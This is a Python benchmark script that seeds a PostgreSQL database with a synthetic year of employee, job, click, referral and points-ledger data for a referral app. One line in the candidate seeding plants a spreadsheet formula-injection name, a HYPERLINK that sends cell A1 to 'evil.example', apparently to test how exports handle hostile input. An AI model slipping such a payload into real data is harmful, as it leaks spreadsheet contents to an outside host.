"""A year of data for a 10,000-person company, seeded in SQL in a few minutes (issue 16).

    .venv/bin/python bench/harness/year.py --database-url postgres://postgres@127.0.0.1:5432/DB
    .venv/bin/python bench/harness/year.py --database-url ... --scale 0.1   # a tenth of it

The database must exist and be empty: the schema comes from the app's own migrations
(`portevoix migrate`), then every table is filled by `INSERT … SELECT` over
`generate_series` on the server, never row by row from Python. At scale 1.0:

- 10,000 employees over 12 departments of uneven size, 8 sites, each with its language
  (a few recruiters and admins among them; some invited, some gone);
- 200 jobs (three in four open) and 60 news posts;
- 60,000 tracked links, most of them by a minority of keen sharers, mostly on a few
  popular jobs (a power law over the jobs too);
- 1,000,000 clicks over the 365 local days that end today (company zone Europe/Paris),
  weekdays about three times as busy as weekend days and the year growing busier; the
  links of the keenest sharers bring most of them (a power law over links ordered by how
  many links their sharer has), and every class is there (about 55 % unique, 20 %
  repeat, 13 % bot, 5 % self, 7 % rate-limited);
- 20,000 referrals in every stage, each with stage times in order (submitted, interview,
  offer, hire, closed) that all fall inside the year and before now, their referral
  changes, and the bonuses their hires earned;
- 500,000 ledger rows: the referral stages' and shares' points, then unique clicks (0
  points past the 20-a-link-a-day cap), with the balances and counters they imply.

Random draws use a fixed seed, so two runs at the same scale and on the same day give the
same data. Progress goes to stderr. After seeding, if the tree has `portevoix
rebuild-analytics`, it is run (and timed) so the roll-ups are filled; on a tree without
it, that step is skipped. `seed_year()` does the same for a benchmark that imports it.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
if __name__ == "__main__":  # run alone: bench/ holds the harness package
    sys.path.insert(0, str(ROOT / "bench"))

from harness.backends import SECRET_KEY  # noqa: E402
from harness.processes import progress  # noqa: E402
from harness.scratch import admin_dsn  # noqa: E402

ZONE = "Europe/Paris"
RECRUITER_EMAIL = "recruiter@example.com"

# Full-scale sizes (issue 16). Jobs and news do not grow with the company as fast.
EMPLOYEES = 10_000
JOBS = 200
NEWS = 60
LINKS = 60_000
CLICKS = 1_000_000
REFERRALS = 20_000
LEDGER = 500_000
CLICK_CHUNKS = 12  # one INSERT per month or so: progress, and no giant sort at once

DEPARTMENTS = [
    "Engineering", "Sales", "Operations", "Customer Success", "Marketing", "Finance",
    "Manufacturing", "Logistics", "Human Resources", "Legal", "Research", "IT",
]  # fmt: skip
SITES = ["Paris", "Lyon", "Berlin", "Madrid", "London", "New York", "Montréal", "Munich"]
SITE_LANGUAGES = ["fr", "fr", "de", "es", "en", "en", "fr", "de"]
FIRST_NAMES = [
    "Ada", "Alan", "Grace", "Linus", "Marie", "Pierre", "Sofia", "Yuki", "Omar", "Lena",
    "Hugo", "Chloé", "Lucas", "Emma", "Noah", "Léa", "Jonas", "Mia", "Paul", "Inès",
    "Carlos", "Lucía", "Hannah", "Felix", "Amira", "Tom", "Nina", "Karim", "Julia", "Leo",
    "Sara", "Mateo", "Clara", "Ali", "Eva", "Ravi", "Zoé", "Ivan", "Alice", "Théo",
]  # fmt: skip
LAST_NAMES = [
    "Martin", "Bernard", "Dubois", "Thomas", "Robert", "Richard", "Petit", "Durand",
    "Leroy", "Moreau", "Simon", "Laurent", "Lefebvre", "Michel", "Garcia", "David",
    "Bertrand", "Roux", "Vincent", "Fournier", "Müller", "Schmidt", "Schneider", "Fischer",
    "Weber", "López", "Martínez", "Sánchez", "Pérez", "Gómez", "Smith", "Jones", "Taylor",
    "Brown", "Williams", "Wilson", "Johnson", "Davies", "Evans", "Nguyen", "Tanaka",
    "Kowalski", "Novak", "Rossi", "Russo", "Costa", "Silva", "Hansen", "Jensen", "Kim",
]  # fmt: skip
JOB_TITLES = [
    "Backend Engineer", "Frontend Engineer", "Data Analyst", "Account Executive",
    "Plant Manager", "Supply Chain Planner", "HR Business Partner", "Legal Counsel",
    "Product Designer", "Site Reliability Engineer", "Customer Success Manager",
    "Financial Controller", "Research Scientist", "IT Support Technician", "Sales Engineer",
    "Marketing Manager", "Warehouse Lead", "Quality Engineer", "Buyer", "Recruiter",
]  # fmt: skip


@dataclass(frozen=True)
class Sizes:
    employees: int
    jobs: int
    news: int
    links: int
    clicks: int
    referrals: int
    ledger: int

    @classmethod
    def at(cls, scale: float) -> Sizes:
        def scaled(n: int, least: int) -> int:
            return max(least, round(n * scale))

        return cls(
            employees=scaled(EMPLOYEES, 100),
            jobs=scaled(JOBS, 10),
            news=scaled(NEWS, 5),
            links=scaled(LINKS, 500),
            clicks=scaled(CLICKS, 5_000),
            referrals=scaled(REFERRALS, 200),
            ledger=scaled(LEDGER, 2_500),
        )


@dataclass
class SeedReport:
    database_url: str
    scale: float
    sizes: Sizes
    rows: dict[str, int] = field(default_factory=dict)
    seconds: dict[str, float] = field(default_factory=dict)
    rebuild_analytics_s: float | None = None  # None: the tree has no such command

    def as_json(self) -> dict[str, Any]:
        return asdict(self)


def portevoix(database_url: str, *args: str, tree: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """Run the `portevoix` of a source tree (its own `app`, whatever is installed) on the
    database."""
    env = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "DATABASE_URL"}}
    env |= {"DATABASE_URL": database_url, "SECRET_KEY": SECRET_KEY, "PYTHONPATH": str(tree)}
    return subprocess.run(
        [sys.executable, "-m", "app", *args],
        cwd=tree,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )


def has_command(name: str, tree: Path = ROOT) -> bool:
    listing = portevoix("sqlite://:memory:", "--help", tree=tree)
    return f" {name} " in listing.stdout or f" {name}\n" in listing.stdout


# -- the seeding, table by table -----------------------------------------------------------


async def seed_year(database_url: str, scale: float = 1.0, tree: Path = ROOT) -> SeedReport:
    """Migrate the (empty) database with `tree`'s migrations, fill it with a year, then
    rebuild the roll-ups when that tree has the command. Returns what was written and how
    long each part took."""
    import asyncpg

    sizes = Sizes.at(scale)
    report = SeedReport(database_url, scale, sizes)
    started = time.monotonic()
    migrated = portevoix(database_url, "migrate", tree=tree)
    if migrated.returncode != 0:
        raise RuntimeError(f"portevoix migrate failed:\n{migrated.stdout}{migrated.stderr}")
    report.seconds["migrate"] = round(time.monotonic() - started, 1)
    conn = await asyncpg.connect(admin_dsn(database_url), timeout=10)
    try:
        await conn.execute("SET synchronous_commit = off; SET work_mem = '64MB'")
        await conn.execute("SELECT setseed(0.16)")
        for name, step in STEPS:
            began = time.monotonic()
            await step(conn, sizes)
            report.seconds[name] = round(time.monotonic() - began, 1)
            progress(f"{name}: {report.seconds[name]} s")
        await conn.execute("DROP TABLE IF EXISTS link_pick, job_link_pick, calendar")
        began = time.monotonic()
        await conn.execute("VACUUM ANALYZE")  # what autovacuum would have done over a year
        report.seconds["vacuum_analyze"] = round(time.monotonic() - began, 1)
        for table in TABLES:
            report.rows[table] = int(await conn.fetchval(f"SELECT COUNT(*) FROM {table}"))
    finally:
        await conn.close()
    report.seconds["total_seed"] = round(time.monotonic() - started, 1)
    progress(f"seeded in {report.seconds['total_seed']} s: {report.rows}")
    report.rebuild_analytics_s = rebuild_analytics(database_url, tree)
    return report


def rebuild_analytics(database_url: str, tree: Path = ROOT) -> float | None:
    """`portevoix rebuild-analytics` on the seeded data, timed; None when the tree has no
    such command (a tree before the roll-ups)."""
    if not has_command("rebuild-analytics", tree):
        progress("this tree has no `portevoix rebuild-analytics`: no roll-up to fill")
        return None
    progress("portevoix rebuild-analytics ...")
    began = time.monotonic()
    done = portevoix(database_url, "rebuild-analytics", tree=tree)
    if done.returncode != 0:
        raise RuntimeError(f"rebuild-analytics failed:\n{done.stdout}{done.stderr}")
    seconds = round(time.monotonic() - began, 1)
    progress(f"rebuild-analytics: {seconds} s")
    return seconds


TABLES = (
    "employee", "job_offer", "news_post", "tracked_link", "click", "candidate", "referral",
    "referral_change", "points_entry",
)  # fmt: skip


def sql_text_array(values: list[str]) -> str:
    return "ARRAY[" + ", ".join("'" + v.replace("'", "''") + "'" for v in values) + "]"


async def set_sequence(conn: Any, table: str) -> None:
    """Rows inserted with explicit ids: the app's next INSERT must not collide."""
    await conn.execute(
        f"SELECT setval(pg_get_serial_sequence('{table}', 'id'), "
        f"(SELECT COALESCE(MAX(id), 0) + 1 FROM {table}), false)"
    )


@asynccontextmanager
async def indexes_dropped(conn: Any, table: str) -> AsyncIterator[None]:
    """Drop the table's plain indexes (not those behind a constraint) for a bulk load,
    and build them again, exactly as the migrations made them, afterwards."""
    rows = await conn.fetch(
        "SELECT i.indexname, i.indexdef FROM pg_indexes i "
        "WHERE i.tablename = $1 AND NOT EXISTS "
        "(SELECT 1 FROM pg_constraint c WHERE c.conname = i.indexname)",
        table,
    )
    for row in rows:
        await conn.execute(f'DROP INDEX "{row["indexname"]}"')
    try:
        yield
    finally:
        for row in rows:
            await conn.execute(row["indexdef"])


async def seed_employees(conn: Any, s: Sizes) -> None:
    """Departments of uneven size (a power law over the list), a site and its language;
    the first few are recruiters and admins, a few are invited or gone."""
    await conn.execute(
        f"""
        INSERT INTO employee (id, email, name, external_id, department, location, language,
            timezone, role, status, points_balance, lifetime_points, created_at, updated_at,
            left_at, notifications_enabled, push_digests, push_jobs, push_news,
            language_chosen)
        SELECT g,
            CASE WHEN g = 1 THEN '{RECRUITER_EMAIL}' ELSE 'person' || g || '@example.com' END,
            (fn)[1 + g % array_length(fn, 1)] || ' '
                || (ln)[1 + (g / array_length(fn, 1)) % array_length(ln, 1)],
            'HR-' || lpad(g::text, 6, '0'),
            (dep)[1 + floor(array_length(dep, 1) * pow(random(), 1.7))::int],
            (site)[site_n], (lang)[site_n], '{ZONE}',
            CASE WHEN g <= 10 THEN 'recruiter' WHEN g <= 13 THEN 'admin' ELSE 'employee' END,
            status, 0, 0, created, created,
            CASE WHEN status = 'left' THEN now() - random() * interval '200 days' END,
            true, true, true, true, true
        FROM (
            SELECT g, 1 + floor({len(SITES)} * pow(random(), 1.5))::int AS site_n,
                CASE WHEN g <= 13 OR random() < 0.95 THEN 'active'
                     WHEN random() < 0.8 THEN 'invited' ELSE 'left' END AS status,
                now() - interval '400 days' - random() * interval '1500 days' AS created,
                {sql_text_array(FIRST_NAMES)} AS fn, {sql_text_array(LAST_NAMES)} AS ln,
                {sql_text_array(DEPARTMENTS)} AS dep, {sql_text_array(SITES)} AS site,
                {sql_text_array(SITE_LANGUAGES)} AS lang
            FROM generate_series(1, {s.employees}) AS g
        ) AS person
        """
    )
    await conn.execute(
        "INSERT INTO gamification_profile (employee_id, shares, unique_clicks, referrals, "
        "interviews, hires, streak_weeks, last_share_week, level, leaderboard_opt_out) "
        "SELECT id, 0, 0, 0, 0, 0, 0, '', 0, random() < 0.02 FROM employee"
    )
    await set_sequence(conn, "employee")


async def seed_content(conn: Any, s: Sizes) -> None:
    """Jobs (three in four open) published before the year began, and news posts."""
    await conn.execute(
        f"""
        INSERT INTO job_offer (id, title, slug, description, department, location, workplace,
            employment_type, language, apply_url, status, source, referral_points,
            published_at, closes_at, created_at, updated_at, target_departments,
            target_locations, target_languages)
        SELECT g, (titles)[1 + g % array_length(titles, 1)] || ' #' || g, 'job-' || g,
            'What you will do, who you will work with.',
            (dep)[1 + g % array_length(dep, 1)], (site)[1 + g % array_length(site, 1)],
            (ARRAY['on_site', 'hybrid', 'remote'])[1 + g % 3], 'full_time', 'en',
            'https://careers.example.com/jobs/' || g,
            CASE WHEN g % 4 = 0 THEN 'closed' ELSE 'open' END, 'manual',
            CASE WHEN g % 10 = 0 THEN 1000 END, published, NULL, published, published,
            '[]'::jsonb, '[]'::jsonb, '[]'::jsonb
        FROM (
            SELECT g, now() - interval '366 days' - random() * interval '60 days' AS published,
                {sql_text_array(JOB_TITLES)} AS titles, {sql_text_array(DEPARTMENTS)} AS dep,
                {sql_text_array(SITES)} AS site
            FROM generate_series(1, {s.jobs}) AS g
        ) AS job
        """
    )
    await conn.execute(
        f"""
        INSERT INTO news_post (id, title, slug, body, url, image_url, language, status,
            publish_at, published_at, captions, created_at, updated_at, target_departments,
            target_locations, target_languages)
        SELECT g, 'Company news #' || g, 'news-' || g, 'What happened this month.',
            'https://news.example.com/' || g, '', 'en', 'published', published, published,
            '{{}}'::jsonb, published, published, '[]'::jsonb, '[]'::jsonb, '[]'::jsonb
        FROM (SELECT g, now() - interval '366 days' - random() * interval '30 days' AS published
              FROM generate_series(1, {s.news}) AS g) AS post
        """
    )
    await set_sequence(conn, "job_offer")
    await set_sequence(conn, "news_post")


async def seed_links(conn: Any, s: Sizes) -> None:
    """Links made by a minority of keen sharers (a power law over a permutation of the
    employees), mostly on jobs, mostly LinkedIn and WhatsApp. Draws that repeat an
    (employee, content, channel) are dropped by the unique constraint, so draw until
    there are enough."""
    while (have := int(await conn.fetchval("SELECT COUNT(*) FROM tracked_link"))) < s.links:
        await conn.execute(
            f"""
            INSERT INTO tracked_link (code, employee_id, content_type, content_id, channel,
                created_at)
            SELECT substr(md5(random()::text), 1, 12),
                1 + (floor({s.employees} * pow(random(), 2.2))::bigint * 7919)
                    % {s.employees},
                content_type,
                CASE WHEN content_type = 'job'
                     THEN 1 + floor({s.jobs} * pow(r, 3))::int
                     ELSE 1 + floor({s.news} * pow(r, 1.5))::int END,
                (ARRAY['linkedin', 'linkedin', 'linkedin', 'linkedin', 'whatsapp',
                       'whatsapp', 'whatsapp', 'email', 'email', 'teams', 'telegram',
                       'x', 'facebook', 'copy'])[1 + floor(random() * 14)::int],
                now() - interval '366 days' - random() * interval '30 days'
            FROM (SELECT CASE WHEN random() < 0.85 THEN 'job' ELSE 'news' END AS content_type,
                         random() AS r
                  FROM generate_series(1, {s.links - have}) AS g) AS draw
            ON CONFLICT DO NOTHING
            """
        )
    # Links of the keenest sharers first: a click's link is drawn by this rank.
    await conn.execute(
        """
        CREATE TABLE link_pick AS
        SELECT row_number() OVER (ORDER BY random() / per_sharer) AS rn, id, employee_id,
            department, content_type, content_id, channel
        FROM (SELECT l.*, e.department,
                     COUNT(*) OVER (PARTITION BY l.employee_id) AS per_sharer
              FROM tracked_link l JOIN employee e ON e.id = l.employee_id) AS link;
        CREATE UNIQUE INDEX ON link_pick (rn);
        CREATE TABLE job_link_pick AS
        SELECT row_number() OVER (ORDER BY rn) AS rn, id, employee_id, department,
            content_id, channel
        FROM link_pick WHERE content_type = 'job';
        CREATE UNIQUE INDEX ON job_link_pick (rn);
        ANALYZE link_pick; ANALYZE job_link_pick;
        """
    )


async def seed_calendar(conn: Any, s: Sizes) -> None:
    """The 365 local days that end today, each with its number of clicks: weekdays about
    three times a weekend day, the year growing busier; the counts add up to exactly
    `s.clicks` (each day takes the difference of the rounded running totals)."""
    await conn.execute(
        f"""
        CREATE TABLE calendar AS
        WITH days AS (
            SELECT day::date AS day, i,
                CASE WHEN extract(isodow FROM day) >= 6 THEN 0.33 ELSE 1.0 END
                    * (0.7 + 0.6 * i / 365.0) AS weight
            FROM generate_series(0, 364) AS i,
                 LATERAL (SELECT (now() AT TIME ZONE '{ZONE}')::date - 364 + i AS day) AS d
        ), running AS (
            SELECT day, i, weight, SUM(weight) OVER (ORDER BY day) AS upto,
                SUM(weight) OVER () AS all_w
            FROM days
        )
        SELECT day, i,
            (floor({s.clicks} * upto / all_w)
             - floor({s.clicks} * (upto - weight) / all_w))::int AS clicks,
            (day::timestamp AT TIME ZONE '{ZONE}') AS midnight,
            LEAST(now(), ((day + 1)::timestamp AT TIME ZONE '{ZONE}'))
                - (day::timestamp AT TIME ZONE '{ZONE}') AS span
        FROM running
        """
    )


async def seed_clicks(conn: Any, s: Sizes) -> None:
    """One INSERT … SELECT per slice of the calendar. A click's link is drawn by a power
    law over `link_pick` (the keen sharers' links first); its sharer, department, content
    and channel are copied from the link, as the worker does; its time falls mostly in
    working hours of its local day (never after now)."""
    nlinks = int(await conn.fetchval("SELECT COUNT(*) FROM link_pick"))
    slice_days = -(-365 // CLICK_CHUNKS)
    done = 0
    async with indexes_dropped(conn, "click"):
        for first in range(0, 365, slice_days):
            began = time.monotonic()
            status = await conn.execute(
                f"""
                INSERT INTO click (click_id, occurred_at, day, classification, visitor_hash,
                    ua_family, referrer_host, country, employee_id, department, content_type,
                    content_id, channel, link_id)
                SELECT md5('click' || draw.day || ':' || draw.n),
                    draw.midnight + draw.at * draw.span, draw.day, draw.class,
                    md5(random()::text),
                    CASE WHEN draw.class = 'bot'
                         THEN (ARRAY['LinkedInBot', 'WhatsApp', 'TelegramBot', 'Slackbot',
                                     'facebookexternalhit'])[1 + floor(random() * 5)::int]
                         ELSE (ARRAY['Chrome', 'Safari', 'Firefox', 'Edge', 'Chrome Mobile',
                                     'Mobile Safari'])[1 + floor(random() * 6)::int] END,
                    CASE l.channel WHEN 'linkedin' THEN 'www.linkedin.com'
                                   WHEN 'x' THEN 't.co' WHEN 'facebook' THEN 'l.facebook.com'
                                   ELSE '' END,
                    (ARRAY['FR', 'FR', 'FR', 'DE', 'ES', 'GB', 'US', 'CA', 'BE', 'CH'])
                        [1 + floor(random() * 10)::int],
                    l.employee_id, l.department, l.content_type, l.content_id, l.channel, l.id
                FROM (
                    SELECT c.day, c.midnight, c.span, n,
                        1 + floor({nlinks} * pow(random(), 2.5))::int AS rn,
                        CASE WHEN random() < 0.8 THEN 0.33 + random() * 0.42
                             ELSE random() END AS at,
                        (ARRAY['unique', 'repeat', 'bot', 'self', 'rate_limited'])[
                            CASE WHEN x < 0.55 THEN 1 WHEN x < 0.75 THEN 2 WHEN x < 0.88 THEN 3
                                 WHEN x < 0.93 THEN 4 ELSE 5 END] AS class
                    FROM calendar c, generate_series(1, c.clicks) AS n,
                         LATERAL (SELECT random() + 0 * n AS x) AS draw_class
                    WHERE c.i >= {first} AND c.i < {first + slice_days}
                    OFFSET 0
                ) AS draw JOIN link_pick l ON l.rn = draw.rn
                """
            )
            done += int(status.split()[-1])
            last = min(first + slice_days, 365) - 1
            progress(
                f"clicks {done:,}/{s.clicks:,} "
                f"({time.monotonic() - began:.1f} s for days {first}..{last})"
            )
        progress("clicks: building the click indexes again ...")


async def seed_referrals(conn: Any, s: Sizes) -> None:
    """Referrals in every stage. Each draws its stage durations first, then a creation
    time that leaves room for them, so every stage time is in order and inside the year
    (and before now). Most come through a job link (its sharer, channel, department);
    some are general referrals, some direct applications with no referrer."""
    await conn.execute(
        f"""
        INSERT INTO candidate (id, email, name, phone, linkedin_url, created_at)
        SELECT g, 'candidate' || g || '@mail.example',
            CASE WHEN g % 997 = 0 THEN '=HYPERLINK("http://evil.example/?" & A1, "CV")'
                 ELSE (fn)[1 + (g * 7) % array_length(fn, 1)] || ' '
                      || (ln)[1 + (g * 13) % array_length(ln, 1)] END,
            '', '', now() - random() * interval '365 days'
        FROM (SELECT g, {sql_text_array(FIRST_NAMES)} AS fn, {sql_text_array(LAST_NAMES)} AS ln
              FROM generate_series(1, {s.referrals}) AS g) AS person
        """
    )
    await conn.execute(
        f"""
        CREATE TEMP TABLE referral_draw AS
        SELECT g, status, kind, rn,
            status <> 'pending_consent' AS submitted,
            status IN ('interview', 'offer', 'hired')
                OR (status IN ('rejected', 'withdrawn') AND random() < 0.3) AS interviewed,
            status IN ('offer', 'hired') OR (status = 'rejected' AND random() < 0.05)
                AS offered,
            status = 'hired' AS hired,
            status IN ('rejected', 'withdrawn') AS closed,
            random() * interval '3 hours' AS to_submit,
            (3 + random() * 18) * interval '1 day' AS to_interview,
            (2 + random() * 12) * interval '1 day' AS to_offer,
            (1 + random() * 10) * interval '1 day' AS to_hire,
            (1 + random() * 10) * interval '1 day' AS to_close,
            (ARRAY['bot', 'web', 'web', 'api', 'ats'])[1 + floor(random() * 5)::int] AS source
        FROM (
            SELECT g,
                CASE WHEN x < 0.03 THEN 'pending_consent' WHEN x < 0.25 THEN 'submitted'
                     WHEN x < 0.43 THEN 'screening' WHEN x < 0.55 THEN 'interview'
                     WHEN x < 0.59 THEN 'offer' WHEN x < 0.67 THEN 'hired'
                     WHEN x < 0.92 THEN 'rejected' WHEN x < 0.97 THEN 'withdrawn'
                     ELSE 'duplicate' END AS status,
                CASE WHEN y < 0.85 THEN 'link' WHEN y < 0.93 THEN 'general'
                     ELSE 'direct' END AS kind,
                1 + floor((SELECT COUNT(*) FROM job_link_pick) * pow(random(), 2.5))::int AS rn
            FROM (SELECT g, random() AS x, random() AS y
                  FROM generate_series(1, {s.referrals}) AS g) AS dice
        ) AS drawn
        """
    )
    await conn.execute(
        """
        CREATE TEMP TABLE referral_time AS
        SELECT d.*,
            CASE WHEN submitted THEN created + to_submit END AS submitted_at,
            CASE WHEN interviewed THEN created + to_submit + to_interview END AS interview_at,
            CASE WHEN offered THEN created + to_submit + to_interview + to_offer END AS offer_at,
            CASE WHEN hired THEN created + to_submit + to_interview + to_offer + to_hire
                 END AS hired_at,
            CASE WHEN closed THEN created + lasted END AS closed_at
        FROM (SELECT d.*, lasted,
                  now() - lasted - random() * (interval '364 days' - lasted) AS created
              FROM referral_draw d,
              LATERAL (SELECT to_submit
                  + CASE WHEN interviewed THEN to_interview ELSE interval '0' END
                  + CASE WHEN offered THEN to_offer ELSE interval '0' END
                  + CASE WHEN hired THEN to_hire ELSE interval '0' END
                  + CASE WHEN closed THEN to_close ELSE interval '0' END AS lasted) AS t
        ) AS d
        """
    )
    await conn.execute(
        f"""
        INSERT INTO referral (id, candidate_id, job_id, referrer_id, link_id, department,
            channel, source, status, duplicate_of_id, prior_applicant, note, cv_file,
            consent_token, consented_at, ats_application_id, created_at, submitted_at,
            interview_at, offer_at, hired_at, closed_at, updated_at, bonus_status,
            bonus_due_at, bonus_paid_at)
        SELECT t.g, t.g,
            CASE WHEN t.kind = 'general' THEN NULL ELSE l.content_id END,
            CASE WHEN t.kind = 'direct' THEN NULL
                 WHEN t.kind = 'general' THEN 1 + (t.g * 7919) % {s.employees}
                 ELSE l.employee_id END,
            CASE WHEN t.kind = 'link' THEN l.id END,
            CASE WHEN t.kind = 'direct' THEN ''
                 WHEN t.kind = 'general' THEN e.department ELSE l.department END,
            CASE WHEN t.kind = 'link' THEN l.channel ELSE '' END,
            CASE WHEN t.kind = 'direct' THEN 'web' ELSE t.source END,
            t.status,
            CASE WHEN t.status = 'duplicate' AND t.g > 1 THEN t.g - 1 END,
            random() < 0.02, '', '',
            CASE WHEN t.status = 'pending_consent' THEN md5('consent' || t.g) END,
            t.submitted_at, NULL, t.created, t.submitted_at, t.interview_at, t.offer_at,
            t.hired_at, COALESCE(t.closed_at, t.hired_at),
            COALESCE(t.closed_at, t.hired_at, t.offer_at, t.interview_at, t.submitted_at,
                     t.created),
            CASE WHEN NOT t.hired THEN 'none'
                 WHEN t.hired_at + interval '90 days' > now() THEN 'waiting'
                 WHEN t.g % 4 = 0 THEN 'due' ELSE 'paid' END,
            t.hired_at + interval '90 days',
            CASE WHEN t.hired AND t.hired_at + interval '90 days' <= now() AND t.g % 4 <> 0
                 THEN LEAST(now(), t.hired_at + interval '95 days') END
        FROM referral_time t
        JOIN job_link_pick l ON l.rn = t.rn
        JOIN employee e ON e.id = 1 + (t.g * 7919) % {s.employees}
        """
    )
    await conn.execute(
        """
        INSERT INTO referral_change (referral_id, from_status, to_status, actor, source, note,
            occurred_at)
        SELECT id, '', 'submitted', 'candidate', source, '', submitted_at
            FROM referral WHERE submitted_at IS NOT NULL AND status <> 'duplicate'
        UNION ALL SELECT id, 'screening', 'interview', 'employee:1', 'web', '', interview_at
            FROM referral WHERE interview_at IS NOT NULL
        UNION ALL SELECT id, 'interview', 'offer', 'employee:1', 'web', '', offer_at
            FROM referral WHERE offer_at IS NOT NULL
        UNION ALL SELECT id, 'offer', 'hired', 'ats', 'ats', '', hired_at
            FROM referral WHERE hired_at IS NOT NULL
        UNION ALL SELECT id, 'screening', status, 'employee:1', 'web', '', closed_at
            FROM referral WHERE status IN ('rejected', 'withdrawn')
        UNION ALL SELECT id, '', 'duplicate', 'system', 'system', '', created_at
            FROM referral WHERE status = 'duplicate'
        """
    )
    await conn.execute("DROP TABLE referral_draw, referral_time")
    await set_sequence(conn, "candidate")
    await set_sequence(conn, "referral")


LEDGER_COLUMNS = (
    "employee_id, points, reason, source, idempotency_key, note, occurred_at, created_at, "
    "week, month, quarter, department, location, counts_for_boards"
)


def ledger_select(employee: str, points: str, reason: str, source: str, key: str, at: str) -> str:
    """The SELECT list of ledger rows from a query that joins `employee e`: the periods
    and the sharer's department and site are copied, as the ledger does at award time."""
    local = f"({at}) AT TIME ZONE '{ZONE}'"
    return (
        f"SELECT {employee}, {points}, {reason}, {source}, {key}, '', {at}, {at}, "
        f"to_char({local}, 'IYYY-\"W\"IW'), to_char({local}, 'YYYY-MM'), "
        f"to_char({local}, 'YYYY-\"Q\"Q'), e.department, e.location, true"
    )


async def seed_ledger(conn: Any, s: Sizes) -> None:
    """The referral stages' points (application at screening, interview, offer, hire),
    then the first rewarded share of each (employee, content), then unique clicks in time
    order until the ledger holds `s.ledger` rows; clicks past the 20-a-link-a-day cap get
    0 points, as the worker writes them. Balances, lifetime points and the profiles'
    counters follow from the rows."""
    stages = [
        ("application", 20, "COALESCE(r.interview_at, r.submitted_at + interval '2 days')",
         "r.status NOT IN ('pending_consent', 'duplicate', 'submitted')"),
        ("interview", 50, "r.interview_at", "r.interview_at IS NOT NULL"),
        ("offer", 100, "r.offer_at", "r.offer_at IS NOT NULL"),
        ("hire", 500, "r.hired_at", "r.hired_at IS NOT NULL"),
    ]  # fmt: skip
    async with indexes_dropped(conn, "points_entry"):
        for reason, points, at, where in stages:
            select = ledger_select(
                "r.referrer_id", str(points), f"'{reason}'", "'referral:' || r.id",
                f"'{reason}:' || r.id", f"LEAST(now(), {at})",
            )  # fmt: skip
            await conn.execute(
                f"INSERT INTO points_entry ({LEDGER_COLUMNS}) {select} FROM referral r "
                f"JOIN employee e ON e.id = r.referrer_id WHERE {where}"
            )
        select = ledger_select(
            "f.employee_id", "5", "'share'", "f.content_type || ':' || f.content_id",
            "'share:' || f.employee_id || ':' || f.content_type || ':' || f.content_id",
            "f.occurred_at",
        )  # fmt: skip
        await conn.execute(
            f"""
            INSERT INTO points_entry ({LEDGER_COLUMNS}) {select}
            FROM (SELECT DISTINCT ON (employee_id, content_type, content_id)
                      employee_id, content_type, content_id, occurred_at
                  FROM click WHERE classification = 'unique'
                  ORDER BY employee_id, content_type, content_id, occurred_at) AS f
            JOIN employee e ON e.id = f.employee_id
            LIMIT {s.ledger // 5}
            """
        )
        room = s.ledger - int(await conn.fetchval("SELECT COUNT(*) FROM points_entry"))
        select = ledger_select(
            "c.employee_id", "CASE WHEN c.nth_of_day <= 20 THEN 1 ELSE 0 END",
            "'unique_click'", "'link:' || c.link_id", "'click:' || c.click_id", "c.occurred_at",
        )  # fmt: skip
        await conn.execute(
            f"""
            INSERT INTO points_entry ({LEDGER_COLUMNS}) {select}
            FROM (SELECT *, row_number() OVER (PARTITION BY link_id, day ORDER BY occurred_at)
                            AS nth_of_day
                  FROM (SELECT * FROM click WHERE classification = 'unique'
                        ORDER BY occurred_at LIMIT {room}) AS first_clicks) AS c
            JOIN employee e ON e.id = c.employee_id
            """
        )
        progress("ledger: building the ledger indexes again ...")
    await conn.execute(
        """
        UPDATE employee e SET points_balance = t.points, lifetime_points = t.points
        FROM (SELECT employee_id, SUM(points) AS points FROM points_entry
              GROUP BY employee_id) AS t
        WHERE e.id = t.employee_id;
        UPDATE gamification_profile p SET
            unique_clicks = t.clicks, shares = t.shares, referrals = t.referrals,
            interviews = t.interviews, hires = t.hires
        FROM (SELECT employee_id,
                  COUNT(*) FILTER (WHERE reason = 'unique_click' AND points > 0) AS clicks,
                  COUNT(*) FILTER (WHERE reason = 'share') AS shares,
                  COUNT(*) FILTER (WHERE reason = 'application') AS referrals,
                  COUNT(*) FILTER (WHERE reason = 'interview') AS interviews,
                  COUNT(*) FILTER (WHERE reason = 'hire') AS hires
              FROM points_entry GROUP BY employee_id) AS t
        WHERE p.employee_id = t.employee_id
        """
    )


STEPS = (
    ("employees", seed_employees),
    ("content", seed_content),
    ("links", seed_links),
    ("calendar", seed_calendar),
    ("clicks", seed_clicks),
    ("referrals", seed_referrals),
    ("ledger", seed_ledger),
)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--database-url", required=True, help="an empty PostgreSQL database")
    parser.add_argument("--scale", type=float, default=1.0, help="1.0 = the issue's year")
    parser.add_argument(
        "--tree", type=Path, default=ROOT, help="the source tree whose migrations make the schema"
    )
    args = parser.parse_args()
    if not args.database_url.startswith(("postgres://", "postgresql://")):
        parser.error("--database-url must be a PostgreSQL URL (postgres://...)")
    if not 0 < args.scale <= 10:
        parser.error("--scale must be above 0 and at most 10")
    import json

    report = asyncio.run(seed_year(args.database_url, args.scale, args.tree.resolve()))
    print(json.dumps({"seed": "year", **report.as_json()}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
